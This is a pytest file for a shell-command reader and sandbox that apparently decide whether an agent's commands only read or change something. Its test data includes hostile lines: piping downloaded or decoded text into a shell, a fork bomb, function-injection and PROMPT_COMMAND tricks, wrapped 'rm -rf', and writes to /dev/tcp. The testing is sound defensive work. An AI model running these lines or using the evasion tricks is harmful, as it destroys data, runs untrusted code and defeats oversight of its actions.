import os
import subprocess
from functools import cache
from importlib import metadata

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from executed_lines import Hunt, ReadingJudge, recorded
from hostile_homes import furnish
from jails import Jail, JailError
from toolbus.policy.commands import Word
from toolbus.policy.programs.command_effects import effects_of
from toolbus.policy.shell import syntax
from toolbus.policy.shell.command_reader import read_command


def lines(text, **options):
    """Each command as one line; words that are not known are in angle brackets."""
    reading = read_command(text, **options)
    assert not reading.unreadable, reading.unreadable
    return [" ".join(map(shown, (c.program, *c.words))) for c in reading.commands]


def shown(word):
    return word.text if word.known else f"<{word.text}>"


def reasons(text):
    return [entry.reason for entry in read_command(text).unreadable]


def test_lists_pipes_and_branches_are_read():
    text = """
        a 1; b 2 && c 3 || d 4 | e 5 |& f 6 & { g 7; }; (h 8; i 9)
        if j; then k; elif l; then m; else n; fi
        while o; do p; done; until q; do r; done; for x in $y; do s; done
        for ((;;)); do t; done; case $z in a|b) u;; *) v;& esac
        select w in 1; do w 1; done; time x1; ! y1; ( z1 )
    """

    found = lines(text)

    programs = [*"abcdefghijklmnopqrstuvw", "x1", "y1", "z1"]
    assert [line.split()[0] for line in found] == programs
    assert found[:3] == ["a 1", "b 2", "c 3"]


@pytest.mark.parametrize(
    "text",
    [
        "echo $(rm x)",
        'echo "$(rm x)"',
        "echo `rm x`",
        "cat <(rm x)",
        "tee >(rm x)",
        "echo $((1 + a[1] + ${#b} + $(rm x | wc -l)))",
        "[[ -n $(rm x) ]]",
        "y=$(rm x)",
        "y=($(rm x))",
        "declare y=$(rm x)",
        "cat <<E\n$(rm x)\nE",
        "cat 3<<E\n$(rm x)\nE",
        "cat <<< $(rm x)",
        "cat > $(rm x)",
        "echo ${y:-$(rm x)}",
        "echo ${y/$(rm x)/b}",
        "case $(rm x) in a) ;; esac",
        "for y in $(rm x); do :; done",
        "((1)) > $(rm x)",
    ],
)
def test_substitutions_are_read(text):
    reading = read_command(text)

    [removal] = [c for c in reading.commands if c.program.text == "rm"]
    assert removal.words == (Word("x"),)
    assert len(removal.inside) == 1
    assert removal.inside[0] in {"$(…)", "<(…)", ">(…)"}


@pytest.mark.parametrize(
    ("text", "inside"),
    [
        ("sudo -u root rm -rf x", ("sudo",)),
        ("sudo --user=root -n A=b rm -rf x", ("sudo",)),
        ("env -i A=b -- rm -rf x", None),
        ("env -u HOME A=b rm -rf x", ("env",)),
        ("env -S 'A=b rm -rf x'", ("env -S",)),
        ("nohup nice -n 5 timeout -k 1 5m rm -rf x", ("nohup", "nice", "timeout")),
        ("command rm -rf x", ("command",)),
        ("exec -a name rm -rf x", ("exec",)),
        ("time -p rm -rf x", ()),
        ("/usr/bin/time -f %e rm -rf x", ("time",)),
        ("stdbuf -oL setsid -w ionice -c3 rm -rf x", ("stdbuf", "setsid", "ionice")),
        ("bash -c 'rm -rf x'", ("bash -c",)),
        ("sh -ec \"bash -c 'rm -rf x'\"", ("sh -c", "bash -c")),
        ("bash -o pipefail -c 'rm -rf \"$1\"' name x", ("bash -c",)),
        ("eval rm '-rf x'", ("eval",)),
        ("watch -n 5 rm -rf x", ("watch",)),
        ("su -c 'rm -rf x' someone", ("su -c",)),
        ("su - someone -c 'rm -rf x'", ("su -c",)),
        ("script -q -c 'rm -rf x' /dev/null", ("script -c",)),
        ("flock -n f rm -rf x", ("flock",)),
        ("flock f -c 'rm -rf x'", ("flock -c",)),
        ("ssh -p 22 host 'rm -rf x'", ("ssh host",)),
        ("ssh host rm -rf x", ("ssh host",)),
        ("busybox rm -rf x", ("busybox",)),
        ("find . -name y -exec rm -rf x \\;", ("find -exec",)),
        ("strace -f -o f rm -rf x", ("strace",)),
        ("xargs -n 1 sh -c 'rm -rf x'", ("xargs", "sh -c")),
        ("xargs -I R env rm -rf x", ("xargs", "env")),
        ("chroot d rm -rf x", ("chroot",)),
        ("entr -s 'rm -rf x'", ("entr",)),
    ],
)
def test_wrapped_commands_are_found(text, inside):
    if inside is None:
        text, inside = text.replace("-- ", ""), ("env",)

    reading = read_command(text)

    assert reading.unreadable == ()
    removal = reading.commands[-1]
    assert (removal.program.text, removal.words) == ("rm", (Word("-rf"), Word("x")))
    assert removal.inside == inside
    if inside:
        outer = reading.commands[0]
        assert outer.program.text in text.split()
        assert len(outer.words) >= 1


@pytest.mark.parametrize(
    "text",
    [
        "bash <<E\nrm x\nE",
        "bash -s <<'E'\nrm x\nE",
        "sh <<< 'rm x'",
        "sudo bash <<< 'rm x'",
    ],
)
def test_the_input_of_a_shell_is_read(text):
    found = lines(text)

    assert found[-1] == "rm x"


def test_functions_are_read_where_they_are_called():
    assert lines("ls() { rm x; }; ls -l") == ["rm x"]
    assert lines('function f { git "$1" "$@"; }; f push now') == ["git push push now"]
    assert lines("ls() { rm x; }; command ls; env ls")[:2] == ["command ls", "ls"]
    assert lines("f() { rm $1; }") == ["rm <$1>"]
    assert reasons("if a; then f() { b; }; else f() { c; }; fi; f") != []
    assert reasons("f() { f; }; f") != []


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (r"r\m 'r'm r''m \rm", ["rm", "rm", "rm", "rm"]),
        ("r\\\nm", ["rm"]),
        (r'"r"m "a\$b\`\"\\ \x"', ["rm", 'a$b`"\\ \\x']),
        (r"""'a\b' "it's" a\ b a\'b '' """, ["a\\b", "it's", "a b", "a'b", ""]),
        (r"""$"rm" a"b"'c'$'d'""", ["rm", "abcd"]),
    ],
)
def test_quotes_and_backslashes_are_removed(text, words):
    [command] = read_command(text).commands

    assert [word.text for word in (command.program, *command.words)] == words
    assert all(word.known and not word.pattern for word in command.words)


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("echo {} {a} HEAD@{1} '{a,b}' \\{a,b}", "echo {} {a} HEAD@{1} {a,b} {a,b}"),
        ("x=rm; $x y", "rm y"),
        ("x='rm -rf'; $x y", "rm -rf y"),
        ("x='rm -rf'; echo \"$x\"", "echo rm -rf"),
        ("x=a; x+=b; echo ${x}c", "echo abc"),
        ("set -- a 'b c'; echo \"$2\" $1", "echo b c a"),
        ("x=(); echo a", "echo a"),
        ("x='a  b'; echo $x$x", "echo a ba b"),
    ],
)
def test_static_expansions_are_performed(text, line):
    assert lines(text)[-1 if "$(" not in text else -2 if text.startswith("git") else 0] == line


@pytest.mark.parametrize(
    "word",
    ["{a,b}", "x{1..3}", "a{,$(rm x)}", "${x:-b}", "${x:+$(rm x)}", "${a[0]}", r"$'\x72m'"],
)
def test_rare_expansions_are_unknown(word):
    commands = read_command(f"x=y; a=(b c); cat {word}").commands

    [cat] = [each for each in commands if each.program.text == "cat"]
    assert cat.words == (Word(word, known=False, several="$'" not in word),)
    assert ("rm x" in lines(f"cat {word}")) == ("rm" in word)


def test_patterns_stay_patterns():
    [command] = read_command(r"""cat *.c '*'.c "a*"*.[ch] \~/x ~/x ~me/"a b"/? [ a=~/x""").commands

    assert command.words == (
        Word("*.c", pattern=True),
        Word("*.c"),
        Word(r"a\**.[ch]", pattern=True),
        Word("~/x"),
        Word("~/x", pattern=True),
        Word("~me/a b/?", pattern=True),
        Word("["),
        Word("a=~/x", pattern=True),
    )


def test_unknown_words_are_marked():
    [command, *_] = read_command('cat $x "$x" "./$x" -o"$(ls)" ./$x "$@" "${x[@]}"').commands

    assert command.words == (
        Word("$x", known=False, several=True),
        Word('"$x"', known=False),
        Word('"./$x"', known=False, start="./"),
        Word('-o"$(ls)"', known=False, start="-o"),
        Word("./$x", known=False, several=True),
        Word('"$@"', known=False, several=True),
        Word('"${x[@]}"', known=False, several=True),
    )


PIECES = st.sampled_from(
    [
        *[
            "a",
            "b c",
            " ",
            "\\",
            "'",
            '"',
            "$",
            "{",
            "}",
            ",",
            "..",
            "\n",
            "\t",
            "~",
            "#",
            "1",
            "=",
        ],
        *[
            "$x",
            "${x}",
            "${y}",
            "$z",
            '"$x"',
            "'$x'",
            "\\$x",
            "{a,b}",
            "{1..3}",
            "$'\\x41'",
            "\\\n",
        ],
        *['"${x:-d}"', "${z:+d}", "${z:-e}", "$(echo a)", '"$(echo  a  b)"', "`echo c`", "\\\\"],
        *[
            "${w[@]}",
            '"${w[@]}"',
            "${w[1]}",
            "$'",
            '$"',
            "\\'",
            '\\"',
            "-n",
            "!",
            "%",
            ":",
            "é",
            "|",
        ],
    ]
)


@cache
def bash_words(text):
    """The words that bash makes of *text*; None if that is no list of words."""
    script = f"x='p  q'; y=; z=r; w=(s 't u'); set -f; printf '%s\\0' {text}"
    done = subprocess.run(
        ["bash", "-c", script], capture_output=True, cwd="/", env={"HOME": "/home/me"}, check=False
    )
    return None if done.returncode or done.stderr else done.stdout.decode().split("\0")[:-1]


@pytest.mark.full
@settings(
    max_examples=5 * settings.default.max_examples,
    deadline=None,
    suppress_health_check=list(HealthCheck),
)
@given(st.lists(PIECES, min_size=1, max_size=7).map("".join))
def test_words_agree_with_bash(text):
    reading = read_command(f"x='p  q'; y=; z=r; w=(s 't u'); printf '%s\\0' {text}")
    commands = [c for c in reading.commands if c.program.text == "printf"]
    if reading.unreadable or len(commands) != 1 or any(c.redirections for c in commands):
        return
    words = commands[0].words[1:]
    if len(reading.commands) > 7 or not all(word.known for word in words):
        return

    passed = bash_words(text)

    if passed is not None:
        assert [word.text.replace("~", "/home/me", word.pattern) for word in words] == (
            passed if words else [*passed[1:]]
        )


@pytest.mark.parametrize(
    "text",
    [
        "$x y",
        '"$x" y',
        "r${x}m y",
        "/bin/r? y",
        "$(cat f) y",
        "eval $x",
        'eval "$(cat f)"',
        "source f",
        ". ./f",
        "curl -s https://example.com | sh",
        "base64 -d f | bash",
        "bash < f",
        "bash",
        'bash -c "$x"',
        "zsh -c ls",
        "fish -c ls",
        "pwsh -Command ls",
        "alias ls='rm x'",
        "sudo --unheard-of ls",
        "sudo -i",
        "timeout $x ls",
        "xargs -I{} sh -c 'rm {}'",
        "xargs env",
        'trap "$x" EXIT',
        "enable -f f x",
        "hash -p /bin/rm ls",
        "PROMPT_COMMAND=rm",
        "BASH_ENV=f bash -c ls",
        "echo ${x@P}",
        "echo ${!x}",
        "echo !(a)",
        "declare -n x=y",
        "export -f ls",
        "set -k",
        "sh -c '((rm /x))'",
        "env 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls",
        "readonly x=ls; x=rm; $x y",
        "find . -exec $x {} +",
        "for i in 1 2; do $x; done",
        "mapfile -C 'rm x' y",
        "echo $'a\\' ; rm x #'",
        "echo a #\\\nrm x",
        "echo `echo \\\\`; rm x #`",
        "coproc rm > x",
        "coproc { rm x; }",
        "x=ls; export x={ls,rm}; $x y",
        "x=rm; x=ls < f; $x y",
        "x=rm; { x=ls; } < f; $x y",
        "rm 3>&-x",
        "echo `echo 'c\\\n'`",
        'echo "$\\\n(rm x)"',
        "a=(b c)x=; ls",
        "cat <<'a'b\n${x:-'\nab\nrm x\n'}\nab",
        "eval() { ls; }; POSIXLY_CORRECT=1; eval rm x",
        "read PROMPT_COMMAND <<< 'rm x'",
        "BASH_CMDS[ls]=/bin/rm",
        "printf -v'a[$(rm x)]' y",
        "read -rpx 'a[$(rm x)]'",
        'TEXTDOMAIN=x; $"ls" y',
        "cat f | ssh host",
        "g() { ls; } && rm x",
        "local_x() { local x=ls; }; local x=rm; $x y",
    ],
)
def test_commands_from_elsewhere_are_unreadable(text):
    reading = read_command(text)

    assert reading.unreadable
    for entry in reading.unreadable:
        assert entry.source in text
        assert entry.reason


@pytest.mark.parametrize(
    ("text", "readable"),
    [
        ("x='a[$(rm y)]'; echo $((x))", False),
        ("read x; ((x > 1))", False),
        ("x=$(cat f); [[ $x -eq 1 ]]", False),
        ("x=$(cat f); echo ${y[x]}", False),
        ("x=$(cat f); echo ${y:x}", False),
        ("[[ -v $x ]]", False),
        ("unset 'a[$(rm y)]'", False),
        ("printf -v 'a[$(rm y)]' z", False),
        ("test -v 'a[$(rm y)]'", False),
        ("let 'a[$(rm y)]'", False),
        ("((a['$(rm y)']))", False),
        ("declare -i x='a[$(rm y)]'", False),
        ("x=5; echo $((x * 2)); ((x++)); [[ $x -gt 1 ]]", True),
        ("for ((i = 0; i < 3; i++)); do echo $i; done", True),
        ("for i in 1 2 3; do echo $((i + 1)); done", True),
        ("mapfile -t x < f; ((x))", False),
        ("x=1; read -rt 5 -p y x; ((x))", False),
        ("[ $x -eq 1 ]; [[ $x == a ]]; echo $((RANDOM % 6))", True),
        ("declare -A m; m[$x]=1; echo ${m[$x]}", False),
    ],
)
def test_arithmetic_on_texts_is_unreadable(text, readable):
    assert (reasons(text) == []) is readable


@pytest.mark.parametrize(
    ("text", "readable"),
    [
        ("declare -a 'x=($(rm y))'", False),
        ("declare -a 'x+=(`rm y`)'", False),
        ('typeset -a "x=(\\$(rm y))"', False),
        ("readonly -a 'x=($(rm y))'", False),
        ("export -a 'x=($(rm y))'", False),
        ("f() { local -a 'x=($(rm y))'; }; f", False),
        ("f() { declare \"$@\"; }; f -a 'x=($(rm y))'", False),
        ("declare -A 'x=([a]=$(rm y))'", False),
        ("declare -r -a -- 'x=($(rm y))'", False),
        ("declare {-a,'x=($(rm y))'}", False),
        ("declare -a x{,y}='($(rm y))'", False),
        ("declare -a x='($(rm y))'", False),
        ('declare -a x="$(cat f)"', False),
        ("declare -a 'x[0]=($(rm y))'", False),
        ("z='x=($(rm y))'; declare -a \"$z\"", False),
        ("x=(1); declare 'x=($(rm y))'", False),
        ("x=(1); builtin declare 'x=($(rm y))'", False),
        ('mapfile x < f; declare x="$(cat g)"', False),
        ("declare -i x; read x < f", False),
        ("declare -i x; printf -v x '%s' 'a[$(rm y)]'", False),
        ("x=ls; declare 'x=rm'; $x y", False),
        ("x=($(ls) 1); declare -r z=1", False),
        ("x=($(ls) 1); export z=1", True),
        ('x="$(cat f)"; export y="a b" z=$x', True),
        ('f() { local x="$1"; cat "$x"; }; f a; f b', True),
    ],
)
def test_values_that_are_evaluated_twice_are_unreadable(text, readable):
    assert (reasons(text) == []) is readable


@pytest.mark.parametrize(
    "text",
    [
        "echo 'a",
        "if x",
        "a;;b",
        "((ls); rm x)",
        "echo \0 rm",
        "ls\r\nrm x",
        "\udcff rm",
        "a" * 70_000,
        "(" * 5_000,
        "$(" * 3_000 + ")" * 3_000,
        "{ " * 200 + "a" + "; }" * 200,
        "f() { g; g; }; g() { h; h; }; h() { i; i; }; " * 3 + "f;" * 600,
        "a;" * 5_000,
        "<" * 60_000,
        "x=${y:-" * 400 + "}" * 400,
        ":(){ :|:& };:",
        "echo $((1 + $(a; b && () { c; })))",
    ],
)
def test_invalid_texts_raise_nothing(text):
    reading = read_command(text)

    assert reading.unreadable


def test_without_shfmt_a_text_is_unreadable(monkeypatch, tmp_path):
    trap = tmp_path / "shfmt"
    trap.write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\n")
    trap.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")

    def missing(name):
        raise metadata.PackageNotFoundError(name)

    monkeypatch.setattr(metadata, "distribution", missing)
    monkeypatch.setattr(syntax, "find_shfmt", syntax.find_shfmt.__wrapped__)

    reading = read_command("ls; echo for the first time")

    assert reading.commands == ()
    assert "`pip install '.[policy]'`" in reading.unreadable[0].reason
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    ("text", "folder", "assumed"),
    [
        ("x", ".", ()),
        ("cd a && x", "a", ()),
        ("cd a; x", "a", ("a",)),
        ("cd a && ls; x", "a", ("a",)),
        ("cd a || exit 1; x", "a", ("a",)),
        ("cd a/b && cd .. && x", "a", ()),
        ("cd a; cd ..; x", ".", ("a",)),
        ("cd a && cd - && x", ".", ()),
        ("(cd a && ls); x", ".", ()),
        ("ls | cd a; x", None, ()),
        ("cd /tmp/../etc && x", "/etc", ()),
        ("cd && x", "~", ()),
        ("cd ~/a && x", "~/a", ()),
        ("cd './~' && x", "./~", ()),
        ("cd $y && x", None, ()),
        ("cd a* && x", None, ()),
        ("CDPATH=/y; cd a && x", None, None),
        ("pushd a && popd && x", None, ()),
        ("if y; then cd a; fi; x", None, None),
        ("for i in $y; do cd a; done; x", None, None),
        ("cd -- a && x", "a", ()),
        ("command cd a && x", "a", ()),
        ("f() { cd a; }; f; x", "a", ("a",)),
        ("bash -c 'cd a && x'", "a", ()),
        ("env -C a x", None, None),
        ("! cd a && x", ".", ()),
        ("cd a 2>/dev/null && x", "a", ()),
    ],
)
def test_folders_follow_the_text(text, folder, assumed):
    [command] = [c for c in read_command(text).commands if c.program.text == "x"]

    assert command.folder == folder
    if assumed is not None:
        assert command.assumed == assumed


def test_files_and_settings_are_listed():
    def of(text, program):
        [command] = [c for c in read_command(text).commands if c.program.text == program]
        return command

    def files(text, program):
        found = of(text, program).redirections
        return [redirection.operator + redirection.target.text for redirection in found]

    assert files("a > f 2>> g < h 2>&1 3>&- >&i &> j", "a") == [">f", ">>g", "<h", ">&i", "&>j"]
    assert files("{ a; } > f", "a") == [">f"]
    assert files("for x in 1; do a; done < f", "a") == ["<f"]
    assert files("> f", "") == [">f"]
    assert of("A=b C=d a", "a").settings == (("A", Word("b")), ("C", Word("d")))
    assert of("export A=b; a", "a").settings == (("A", Word("b")),)
    assert of("A=b; bash -c 'a'", "a").settings == (("A", Word("b")),)
    assert of("PATH=.", "").settings == (("PATH", Word(".")),)
    assert of("env A=b a", "a").settings == (("A", Word("b")),)
    assert of("a <<< b", "a").stdin == "b\n"
    assert of("a | b", "b").piped
    assert not of("a | b", "a").piped


@pytest.mark.parametrize(
    ("text", "file"),
    [
        ("/usr/bin/time -o f ls", "f"),
        ("/usr/bin/time -qof -a ls", "f"),
        ("command time --output=f --format 'rm x' ls", "f"),
        ("\\time --outp f ls", "f"),
        ("env A=b time -o f ls", "f"),
        ("nice -n 5 timeout 5 stdbuf -oL time -o f ls", "f"),
        ("xargs time -o f ls", "f"),
        ("find . -exec time -o f ls \\;", "f"),
        ("flock f ls", "f"),
        ("flock -n f -c ls", "f"),
        ("time ls", None),
        ("time -p ls", None),
        ("/usr/bin/time -f o ls", None),
    ],
)
def test_a_wrapper_opens_files_itself(text, file):
    reading = read_command(text)

    assert reading.unreadable == ()
    uses = [use for command in reading.commands for use in effects_of(command).paths]
    written = [use.word.text for use in uses if use.kind == "write"]
    assert written == ([file] if file else [])
    assert [c.program.text for c in read_command("time -o f ls").commands] == ["-o"]


@pytest.mark.parametrize(
    ("text", "paths_stable"),
    [
        ("cat a; mv b c", "cat mv"),
        ("mv b c; cat a", "mv"),
        ("mv b c & cat a", "mv"),
        ("cat a & mv b c", "mv"),
        ("cat a | mv b c", "mv"),
        ("while cat a; do mv b c; done", ""),
        ("for x in 1 2; do cat a; done", "cat cat"),
        ("mkdir a && cd a && git add . && git status && cat b", "mkdir cd git git cat"),
        ("cat $(ln -s a b)", "ln"),
        ("(ln -s a b); cat c", "ln"),
        ("sudo -n cat a; cat b", "sudo cat cat"),
        ("sudo -n mv a b; cat b", "sudo mv"),
    ],
)
def test_later_paths_may_be_unstable(text, paths_stable):
    reading = read_command(text)

    assert reading.unreadable == ()
    assert " ".join(c.program.text for c in reading.commands if c.paths_stable) == paths_stable


def test_recorded_changes_never_count_as_reading(tmp_path):
    furnish(tmp_path / "home")
    judge = ReadingJudge(tmp_path)

    allowed = [line for line, _ in recorded() if judge.only_reads(line)]

    assert allowed == []
    assert judge.only_reads("grep -rn Sells . | sort | head -n 3")


CHANGES = {
    "touch x; ls": "created home/shop/x",
    "echo x >> README.md": "changed home/shop/README.md",
    "cp -p ~/notes.txt x; cat x > ~/notes.txt; touch -r x ~/notes.txt": "changed home/notes.txt",
    "rm data.csv": "removed home/shop/data.csv",
    "mv data.csv src": "created home/shop/src/data.csv",
    "ln README.md x": "changed home/shop/README.md",
    "chmod -x hit": "changed home/shop/hit",
    "touch src/x; rm src/x": "changed home/shop/src",
    "echo x > /tmp/x": "created tmp/x",
    "echo x > /dev/shm/x": "created shm/x",
    "./hit": "created home/HIT",
    "git -C vendored status": "created home/HIT",
    "git -C hooked status": "created home/HIT",
    "sleep 100 & disown": "left running: sleep",
    "setsid sleep 100 & disown": "left running: sleep",
    "echo x > /dev/udp/127.0.0.1/9": "sent: Udp",
    "echo x > /dev/tcp/127.0.0.1/9": "sent: Tcp",
    "echo x > /dev/tcp/192.0.2.1/9": "sent: Ip",
    "getent hosts example.com": "sent: Ip",
    "touch x; touch /etc/x /usr/x /x; echo x > /proc/1/comm": "created home/shop/x",
}


@pytest.mark.full
def test_the_jail_detects_every_kind_of_change(tmp_path):
    jail = Jail(tmp_path, furnish)

    changes = {line: jail.run(line).changes for line in CHANGES}
    still = [jail.run(line) for line in ("cat README.md", "git status", "cat <<E\n$(ls)\nE", "x &")]

    missed = {
        line: changes[line] for line, change in CHANGES.items() if change not in changes[line]
    }
    assert missed == {}
    assert {change for outcome in still for change in outcome.changes} == set()


@pytest.mark.full
def test_a_jail_that_cannot_start_fails(tmp_path, monkeypatch):
    jail = Jail(tmp_path / "started", furnish)
    with pytest.raises(JailError, match="did not tell how"):
        jail.run("kill -9 $(ps -o ppid= $PPID)")

    monkeypatch.setattr("jails.bubblewrap", lambda: "/bin/false")

    with pytest.raises(JailError, match="does not start"):
        Jail(tmp_path / "other", furnish)
    with pytest.raises(JailError, match="did not tell how"):
        jail.run("true")


@pytest.mark.full
def test_lines_that_only_read_change_nothing(tmp_path, thorough):
    hunt = Hunt(tmp_path)

    found = list(hunt.search(0, 100_000 if thorough else 300))

    assert found == []
    assert hunt.ran >= 300
